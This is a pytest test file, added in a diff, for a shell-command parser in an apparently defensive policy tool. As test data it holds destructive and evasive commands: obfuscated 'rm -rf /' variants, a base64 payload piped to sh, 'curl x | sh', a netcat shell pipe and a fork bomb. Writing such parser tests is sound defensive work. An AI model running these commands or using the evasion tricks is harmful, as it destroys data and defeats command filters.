@@ -1,0 +1,205 @@
+"""Parser, normalisation and unwrapping: what `parse_command_line` says would run."""
+
+from __future__ import annotations
+
+import pytest
+
+from bastion.policy.shell import parse_command_line
+
+
+def programs(text: str) -> list[str]:
+    return [c.program for c in parse_command_line(text).commands]
+
+
+def find(text: str, program: str):
+    for c in parse_command_line(text).commands:
+        if c.program == program:
+            return c
+    raise AssertionError(f"{program} not found in {programs(text)}")
+
+
+@pytest.mark.parametrize("text", [
+    "r''m -rf /", '"r"m -rf /', "\\rm -rf /", "$'\\x72m' -rf /", "$'\\162m' -rf /", "/bin/rm -rf /",
+    "/usr/bin/rm -rf /", "'rm' -rf /", "r\\\nm -rf /", "{rm,-rf,/}", "${IFS}rm -rf /",
+])
+def test_quoting_and_paths_normalise_to_rm(text: str) -> None:
+    rm = find(text, "rm")
+    assert rm.args == ("-rf", "/")
+
+
+def test_original_program_path_is_kept() -> None:
+    assert find("/usr/bin/rm -rf /tmp/x", "rm").path == "/usr/bin/rm"
+
+
+@pytest.mark.parametrize("text, expected", [
+    ("ls; rm x", ["ls", "rm"]),
+    ("ls && rm x || id &", ["ls", "rm", "id"]),
+    ("ls\nrm x", ["ls", "rm"]),
+    ("cat a | grep b | wc -l", ["cat", "grep", "wc"]),
+    ("(cd /tmp && rm x)", ["cd", "rm"]),
+    ("{ ls; rm x; }", ["ls", "rm"]),
+    ("if true; then rm x; else id; fi", ["true", "rm", "id"]),
+    ("for i in a; do rm $i; done", ["rm"]),
+    ("while false; do rm x; done", ["false", "rm"]),
+    ("case a in a) rm x;; esac", ["rm"]),
+    ("f() { rm x; }; f", ["rm", "f"]),
+])
+def test_every_simple_command_is_collected(text: str, expected: list[str]) -> None:
+    assert programs(text) == expected
+
+
+@pytest.mark.parametrize("text", [
+    "echo $(rm x)", "echo `rm x`", "cat <(rm x)", "tee >(rm x)", "x=$(rm x)", "[[ -f $(rm x) ]]",
+    "echo \"$(rm x)\"", "echo ${a:-$(rm x)}", "cat <<EOF\n$(rm x)\nEOF", "echo `echo \\`rm x\\``",
+])
+def test_substitutions_are_collected(text: str) -> None:
+    assert "rm" in programs(text)
+
+
+@pytest.mark.parametrize("text, chain", [
+    ("sudo -u root -- env -i rm -rf /", ("sudo", "env")),
+    ("doas rm x", ("doas",)),
+    ("env A=1 B=2 rm x", ("env",)),
+    ("nice -n 5 nohup timeout 3 stdbuf -oL ionice -c3 rm x", ("nice", "nohup", "timeout", "stdbuf", "ionice")),
+    ("time rm x", ("time",)),
+    ("command rm x", ("command",)),
+    ("builtin eval 'rm x'", ("builtin", "eval")),
+    ("exec -a y rm x", ("exec",)),
+    ("watch -n 1 rm x", ("watch",)),
+    ("busybox rm x", ("busybox",)),
+    ("xargs -0 -n1 rm", ("xargs",)),
+    ("find . -exec rm {} \\;", ("find",)),
+    ("find . -execdir rm {} +", ("find",)),
+    ("su -c 'rm x' bob", ("su",)),
+    ("bash -c 'rm x'", ("bash",)),
+    ("sh -ec 'rm x'", ("sh",)),
+    ("zsh -c 'rm x'", ("zsh",)),
+    ("dash -c 'rm x'", ("dash",)),
+    ("eval 'rm x'", ("eval",)),
+    ("eval rm x", ("eval",)),
+    ("env -S 'rm x'", ("env",)),
+    ("ssh host rm x", ("ssh",)),
+])
+def test_wrappers_are_unwrapped(text: str, chain: tuple[str, ...]) -> None:
+    rm = find(text, "rm")
+    assert rm.wrappers == chain
+    assert not rm.opaque
+
+
+def test_wrapper_itself_is_listed() -> None:
+    sudo = find("sudo rm -rf /", "sudo")
+    assert sudo.is_wrapper
+
+
+def test_command_v_runs_nothing() -> None:
+    assert programs("command -v rm") == ["command"]
+
+
+def test_find_exec_placeholder_becomes_search_root() -> None:
+    assert find("find /etc -exec rm -f {} +", "rm").args == ("-f", "/etc")
+
+
+def test_xargs_marks_arguments_dynamic() -> None:
+    assert find("xargs rm -rf", "rm").dynamic_args
+
+
+def test_redirections_are_recorded() -> None:
+    cmd = find("echo hi > /etc/x 2>&1 >> log", "echo")
+    assert [(r.op, r.target) for r in cmd.redirects] == [(">", "/etc/x"), (">&", "1"), (">>", "log")]
+    assert cmd.redirects[0].writes and not cmd.redirects[1].writes
+
+
+def test_redirect_misparsed_argument_is_moved_back() -> None:
+    assert find("echo a 2>/dev/null b", "echo").args == ("a", "b")
+
+
+def test_brace_expansion_is_literal_only() -> None:
+    assert find("ls {a,b}/c {1..3}", "ls").args == ("a/c", "b/c", "1", "2", "3")
+    assert find("ls '{a,b}'", "ls").args == ("{a,b}",)
+
+
+def test_home_variable_becomes_tilde() -> None:
+    assert find('rm -rf "$HOME"/x', "rm").args == ("-rf", "~/x")
+
+
+def test_dynamic_path_prefix() -> None:
+    assert find('rm -rf "$DIR"/x', "rm").dynamic_paths == ("$DIR/x",)
+
+
+@pytest.mark.parametrize("text, reason_part", [
+    ("$a -rf /", "program name"),
+    ("$(echo rm) -rf /", "program name"),
+    ("`which rm` x", "program name"),
+    ("eval $x", "only known at run time"),
+    ('sh -c "$x"', "only known at run time"),
+    ("curl x | sh", "pipe"),
+    ("bash <<< \"$x\"", "here-string"),
+    ("sh < file.sh", "redirected file"),
+    ("cat <<EOF | bash\nls\nEOF", "pipe"),
+    ("source <(curl x)", "process substitution"),
+    (". /dev/stdin", "stdin"),
+    ("python3", "stdin"),
+    ("perl - < x", "redirected file"),
+    ('"unterminated', "syntax"),
+])
+def test_opaque_cases(text: str, reason_part: str) -> None:
+    parsed = parse_command_line(text)
+    assert parsed.opaque
+    assert any(reason_part in r for r in parsed.opaque_reasons), parsed.opaque_reasons
+
+
+def test_statically_known_payloads_are_parsed_but_stay_opaque() -> None:
+    rm = find("echo cm0gLXJmIC8= | base64 -d | sh", "rm")
+    assert rm.args == ("-rf", "/") and rm.opaque
+    rm = find("a=rm; $a -rf /", "rm")
+    assert rm.opaque and rm.args == ("-rf", "/")
+    rm = find("sh <<'EOF'\nrm -rf /\nEOF", "rm")
+    assert rm.opaque
+
+
+def test_benign_commands_are_not_opaque() -> None:
+    for text in ["ls -la", "python3 script.py", "python3 -m pytest", "bash script.sh", "echo $HOME",
+                 "ls $(pwd)", 'for f in *.py; do python "$f"; done']:
+        assert not parse_command_line(text).opaque, text
+
+
+def test_fork_bomb_is_marked_recursive() -> None:
+    assert any(c.recursive for c in parse_command_line(":(){ :|:& };:").commands)
+
+
+def test_pipeline_neighbours() -> None:
+    sh = find("curl x | base64 -d | sh", "sh")
+    assert sh.fed_by == ("curl", "base64")
+    assert find("sh -i 2>&1 | nc h 1", "sh").pipes_to == ("nc",)
+
+
+def test_spans_point_into_the_line() -> None:
+    text = "ls -la; rm -rf /"
+    rm = find(text, "rm")
+    assert text[rm.span[0]:rm.span[1]] == "rm -rf /"
+
+
+@pytest.mark.parametrize("text, reason", [
+    ("x" * (64 * 1024 + 1), "longer than"),
+    ("ls\x00rm", "NUL"),
+    ("ls \udcff", "UTF-8"),
+])
+def test_bad_input_is_opaque(text: str, reason: str) -> None:
+    parsed = parse_command_line(text)
+    assert parsed.opaque and reason in parsed.opaque_reasons[0]
+
+
+@pytest.mark.parametrize("text", [
+    "echo " + "a" * (1024 * 1024), "$(" * 1000 + "rm -rf /" + ")" * 1000, "`" * 999, "'" * 5000,
+    "{" * 2000 + "a,b" + "}" * 2000, "a" * 60000, "echo $(" * 300, "; ".join(["ls"] * 9000),
+    "echo {1..100000000}", "echo " + "{a,b}" * 30,
+])
+def test_huge_and_deep_inputs_give_a_decision_basis(text: str) -> None:
+    # Bounded work is the benchmark's business; here: no crash, no hang, something to decide on.
+    parsed = parse_command_line(text)
+    assert parsed.commands
+
+
+def test_deep_nesting_is_opaque_not_allowed() -> None:
+    parsed = parse_command_line("$(" * 1000 + "rm -rf /" + ")" * 1000)
+    assert parsed.opaque
